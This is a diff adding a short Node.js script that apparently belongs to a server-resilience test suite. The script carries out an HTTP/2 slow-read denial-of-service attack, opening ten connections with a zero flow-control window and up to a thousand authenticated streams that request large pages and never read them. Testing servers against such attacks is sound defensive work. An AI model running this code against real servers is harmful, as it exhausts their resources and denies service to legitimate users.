@@ -1,0 +1,26 @@
+import { connect } from "node:http2";
+import { answerAttack, keepDoing } from "../../support/attack.js";
+import { largePage } from "../../support/large-page.js";
+
+const CONNECTIONS = 10;
+const STREAMS = 100;
+
+/** Streams of HTTP/2 that ask for large pages and read nothing. */
+answerAttack(async (target) => {
+  const sessions = Array.from({ length: CONNECTIONS }, () =>
+    connect(target.messagingDataUrl, { settings: { initialWindowSize: 0 } }).on("error", () => {}),
+  );
+  const most = CONNECTIONS * STREAMS;
+  let asked = 0;
+  await keepDoing({ seconds: target.seconds, perSecond: most / 5, atOnce: most }, async () => {
+    if (asked === most) return;
+    const index = asked++;
+    const session = sessions[index % CONNECTIONS];
+    if (session === undefined || session.closed || session.destroyed) return;
+    const headers = { ":path": largePage(target, index), authorization: `Bearer ${target.token}` };
+    session.request(headers).on("error", () => {});
+  });
+  return {
+    did: `${asked} streams on ${CONNECTIONS} connections that asked for a page each and read nothing`,
+  };
+});
